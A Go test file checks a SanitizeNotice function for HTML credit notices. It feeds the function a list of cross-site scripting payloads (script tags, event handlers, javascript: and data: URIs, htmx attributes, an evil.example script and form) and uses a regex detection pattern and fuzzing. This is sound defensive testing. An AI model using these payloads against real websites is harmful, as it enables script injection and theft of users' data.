package views

import (
	"regexp"
	"strings"
	"testing"
)

// forbidden matches anything a sanitized notice must never contain.
var forbidden = regexp.MustCompile(`(?i)<script|<style|<iframe|<form|<svg|<math|<img|<object|<embed|\son[a-z]*\s*=|hx-|javascript:|(href|src)\s*=\s*"?\s*(data|vbscript):`)

var hostileNotices = []string{
	`<script>alert(1)</script><p>Notice</p>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><circle/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="jav&#x09;ascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<div hx-get="/admin" hx-trigger="load">x</div>`,
	`<div data-hx-post="/x" data-hx-trigger="load">x</div>`,
	`<p onclick="alert(1)" onmouseover=alert(1)>x</p>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<form action="https://evil.example"><input name=ssn></form>`,
	`<style>body{display:none}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<object data="javascript:alert(1)"></object>`,
	`"><script>alert(1)</script>`,
	`<a href="https://ok.example/x" onclick="alert(1)">ok</a>`,
}

func TestSanitizeNoticeDropsEverythingHostile(t *testing.T) {
	for _, in := range hostileNotices {
		out := SanitizeNotice(in)
		if forbidden.MatchString(out) {
			t.Errorf("SanitizeNotice(%q) = %q", in, out)
		}
	}
}

func TestSanitizeNoticeKeepsOrdinaryContent(t *testing.T) {
	in := `<h2>Notice of action taken</h2><p>We are <strong>unable</strong> to offer credit.</p>` +
		`<ul><li>Income insufficient for amount of credit requested</li></ul>` +
		`<table><tr><th scope="col">Score</th></tr><tr><td>590</td></tr></table>` +
		`<p><a href="https://www.consumerfinance.gov/">CFPB</a></p>`
	out := SanitizeNotice(in)
	for _, want := range []string{"<h2>", "<strong>unable</strong>", "<li>Income insufficient", "<th scope=\"col\">", "<td>590</td>", `href="https://www.consumerfinance.gov/"`, `rel="nofollow noreferrer noopener"`} {
		if !strings.Contains(out, want) {
			t.Errorf("lost %q: %s", want, out)
		}
	}
	if strings.Contains(SanitizeNotice(`<a href="http://plain.example/">x</a>`), "href") {
		t.Error("kept a non-https link")
	}
}

func FuzzSanitizeNotice(f *testing.F) {
	for _, s := range hostileNotices {
		f.Add(s)
	}
	f.Add(`<p>plain</p>`)
	f.Add(`text with javascript: and hx-get and onload=1 in it`)
	f.Fuzz(func(t *testing.T, in string) {
		out := SanitizeNotice(in)
		if forbidden.MatchString(out) {
			t.Fatalf("SanitizeNotice(%q) = %q", in, out)
		}
	})
}
